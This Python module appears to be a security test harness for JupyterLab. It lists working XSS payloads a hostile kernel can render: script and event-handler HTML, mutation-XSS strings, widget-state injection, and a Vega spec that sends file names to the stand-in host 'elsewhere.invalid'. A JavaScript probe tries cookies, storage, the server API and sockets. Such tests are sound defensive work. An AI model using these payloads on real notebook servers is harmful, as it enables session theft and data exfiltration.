"""What a hostile kernel shows: attacks on the page that shows it, each one piece of Python.

An attack that works adds its name to `reached`, a set in the page of JupyterLab; one that is
stopped says so, if it can. Those that start with "call-" make the browser ask another machine for
something, which carries out what the code has read.
"""

PRELUDE = r"""
from comm import create_comm
from IPython.display import HTML, display

ELSEWHERE = "http://elsewhere.invalid"
shell = get_ipython()
CONTROLS, OUTPUT = "@jupyter-widgets/controls", "@jupyter-widgets/output"

def show(mime, data, **more):
    display({mime: data}, raw=True, **more)

def reach(name):
    return f"try{{top.reached.add('{name}')}}catch(e){{top.postMessage('{name}','*')}}"

def image(name):
    return f'<img src="x" onerror="{reach(name)}">'

def script(name):
    return f'<script>{reach(name)}</script>'

def widget(kind, module=CONTROLS, view=None, **state):
    types = {"_model_module": module, "_view_module": module, "_model_name": kind + "Model",
             "_view_name": view or kind + "View", "_model_module_version": "*", "_view_module_version": "*"}
    if module == CONTROLS:
        types |= {"_model_module_version": "2.0.0", "_view_module_version": "2.0.0"}
    else:
        types |= {"_model_module_version": "1.0.0", "_view_module_version": "1.0.0"}
    buffers = [state.pop("buffer")] if "buffer" in state else []
    data = {"state": types | state, "buffer_paths": [["value"] for _ in buffers]}
    version = {"version": "2.1.0"}
    return create_comm(target_name="jupyter.widget", data=data, metadata=version, buffers=buffers)

def show_widget(comm):
    show("application/vnd.jupyter.widget-view+json",
         {"version_major": 2, "version_minor": 0, "model_id": comm.comm_id})

def tell(comm, method="update", **state):
    comm.send({"method": method, "state": state, "buffer_paths": []})

def pay(**payload):
    shell.payload_manager.write_payload(payload)
"""

ATTACKS = {
    "html-script": "show('text/html', script(name))",
    "html-module": "show('text/html', script(name).replace('script>', 'script type=module>', 1))",
    "html-onerror": "show('text/html', image(name))",
    "html-javascript-frame": "show('text/html', f'<iframe src=\"javascript:{reach(name)}\"></iframe>')",
    "html-frame": "show('text/html', f'<iframe srcdoc=\"{script(name)}\"></iframe>')",
    "html-toggle": """
show('text/html', f'<details open ontoggle="{reach(name)}"><summary>s</summary></details>')""",
    "html-animation": """
show('text/html', '<style>@keyframes x{}</style>'
     f'<b style="animation-name:x" onanimationstart="{reach(name)}">b</b>')""",
    "html-mutation": """
show('text/html', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
     f'onerror={reach(name)}&gt;"></table></mtext></math>' + image(name))""",
    "html-in-lines": """
show('text/html', ['<img src="x"', f' onerror="{reach(name)}">'])""",
    "html-in-a-bundle": "display({'text/latex': '$x$', 'text/html': image(name)}, raw=True)",
    "html-isolated": "show('text/html', script(name), metadata={'isolated': True})",
    "html-result": "HTML(image(name))",
    "html-update": "display(HTML('<b>first</b>'), display_id=name).update(HTML(image(name)))",
    "html-form": """
show('text/html', f'<form><button formaction="javascript:{reach(name)}">click</button></form>')""",
    "html-click": "show('text/html', f'<b onclick=\"{reach(name)}\">click</b>')",
    "script": "show('application/javascript', reach(name))",
    "script-text": "show('text/javascript', reach(name))",
    "markdown-html": "show('text/markdown', '# title\\n' + image(name))",
    "markdown-script": "show('text/markdown', script(name))",
    "widget-html": "show_widget(widget('HTML', value=image(name)))",
    "widget-html-math": "show_widget(widget('HTMLMath', value=image(name)))",
    "widget-html-list": "show_widget(widget('HTML', value=[image(name)]))",
    "widget-html-update": "w = widget('HTML', value=''); show_widget(w); tell(w, value=image(name))",
    "widget-html-echo": """
w = widget('HTML', value='')
show_widget(w)
tell(w, 'echo_update', value=image(name))""",
    "widget-html-beside": """
w = widget('HTML', value='')
show_widget(w)
w.send({'method': 'update', 'state': {'value': image(name)}, 'states': {}, 'buffer_paths': []})""",
    "widget-view": "show_widget(widget('Text', view='HTMLView', value=image(name)))",
    "widget-view-later": """
w = widget('Text', value=image(name))
tell(w, _view_name='HTMLView')
show_widget(w)""",
    "widget-link": """
a, b = widget('Text', value=image(name)), widget('HTML', value='')
widget('DirectionalLink', _view_name=None,
       source=['IPY_MODEL_' + a.comm_id, 'value'], target=['IPY_MODEL_' + b.comm_id, 'value'])
show_widget(b)""",
    "widget-output": """
output = {'output_type': 'display_data', 'metadata': {}, 'data': {'text/html': image(name)}}
show_widget(widget('Output', OUTPUT, msg_id='', outputs=[output]))""",
    "widget-module": """
import anywidget
class Any(anywidget.AnyWidget):
    _esm = 'export default { render() {' + reach(name) + '} }'
display(Any())""",
    "payload-page": "pay(source='page', start=0, data={'text/html': image(name)})",
    "call-html-image": "show('text/html', f'<img src=\"{ELSEWHERE}/{name}\">')",
    "call-html-style": "show('text/html', f'<b style=\"background: url({ELSEWHERE}/{name})\">b</b>')",
    "call-html-sheet": "show('text/html', f'<link rel=\"stylesheet\" href=\"{ELSEWHERE}/{name}\">')",
    "call-html-frame": "show('text/html', f'<iframe src=\"{ELSEWHERE}/{name}\"></iframe>')",
    "call-html-fetch": """
show('text/html', f'<script>fetch("{ELSEWHERE}/{name}", {{mode: "no-cors"}})</script>' + script(name))""",
    "call-html-leave": """
show('text/html', script(name) + '<script>const frame = document.createElement("iframe");'
     f'frame.src = "{ELSEWHERE}/{name}"; document.body.append(frame);'
     f'if (self !== top) location = "{ELSEWHERE}/{name}"</script>')""",
    "call-markdown-image": "show('text/markdown', f'![x]({ELSEWHERE}/{name})')",
    "call-widget-image": """
show_widget(widget('Image', format='url', buffer=f'{ELSEWHERE}/{name}'.encode()))""",
    "call-vega": """
files = {'name': 'files', 'url': '/api/contents', 'format': {'type': 'json', 'property': 'content'}}
picture = {'signal': f'"{ELSEWHERE}/{name}?" + datum.name'}  # tells what files there are
show('application/vnd.vega.v5+json', {
    '$schema': 'https://vega.github.io/schema/vega/v5.json', 'width': 9, 'height': 9, 'data': [files],
    'marks': [{'type': 'image', 'from': {'data': 'files'}, 'encode': {'enter': {
        'width': {'value': 9}, 'height': {'value': 9}, 'url': picture}}}]})""",
}

IN_FRAMES = frozenset(
    name
    for name in ATTACKS
    if name.startswith(("html-", "script", "markdown-", "call-html-fetch", "call-html-leave"))
) - {"html-javascript-frame", "html-frame", "html-form", "html-click"}
"""Attacks that run where output is isolated, to find that the page is out of reach."""

REPLACE = "pay(source='set_next_input', replace=True, text='# replaced by the kernel')"

REPORT = """
name = 'widget-report'
import ipywidgets  # whose own answer is replaced
from comm import get_comm_manager

reported, told = widget('HTML', value=''), widget('HTML', value='')
show_widget(reported)
show_widget(told)

def state_of(value):
    types = {'_model_module': CONTROLS, '_view_module': CONTROLS, '_model_name': 'HTMLModel',
             '_view_name': 'HTMLView', '_model_module_version': '2.0.0', '_view_module_version': '2.0.0'}
    return {'model_name': 'HTMLModel', 'model_module': CONTROLS, 'model_module_version': '2.0.0',
            'state': types | {'value': value}}

def report(comm, opened):
    states = {reported.comm_id: state_of(image(name)), told.comm_id: state_of('<b>it was told</b>')}
    answer = {'method': 'update_states', 'states': states, 'buffer_paths': []}
    comm.on_msg(lambda asked: comm.send(answer))

get_comm_manager().register_target('jupyter.widget.control', report)
"""
"""An attack that waits until the page is loaded anew, and asks for the states of all widgets."""

PROBE = """
const told = {};
async function attempt(name, action) {
    try { told[name] = String(await action()) } catch (error) { told[name] = 'no: ' + error.name }
}
const page = location.ancestorOrigins ? location.ancestorOrigins[0] : '';
await attempt('cookie of the page', () => top.document.cookie);
await attempt('cookie', () => document.cookie);
await attempt('storage', () => localStorage.length);
await attempt('database', () => new Promise((done, fail) => {
    const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = () => fail(asked.error) }));
await attempt('parent', () => parent.document.body);
await attempt('address', () => top.location.href);
await attempt('api', async () => (await fetch(page + '/api/contents', {credentials: 'include'})).status);
await attempt('blind api', async () => (await fetch(page + '/api/contents', {mode: 'no-cors'})).type);
await attempt('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket(page.replace('http', 'ws') + '/api/events/subscribe');
    socket.onopen = done; socket.onerror = () => fail(new DOMException('', 'NetworkError')) }));
await attempt('window', () => open('about:blank').document);
await attempt('navigation', () => { top.location = 'about:blank' });
await attempt('worker', () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + page + '/api/contents")' +
        '.then(reply => postMessage(reply.status), () => postMessage("refused"))'])));
    const refused = () => fail(new DOMException('', 'NetworkError'));
    worker.onmessage = told => told.data == 'refused' ? refused() : done(told.data);
    worker.onerror = refused }));
told.base = document.baseURI;
told.referrer = document.referrer;
top.postMessage({probe: told}, '*');
"""
"""What a frame tries to reach; says to the page how each attempt ended."""
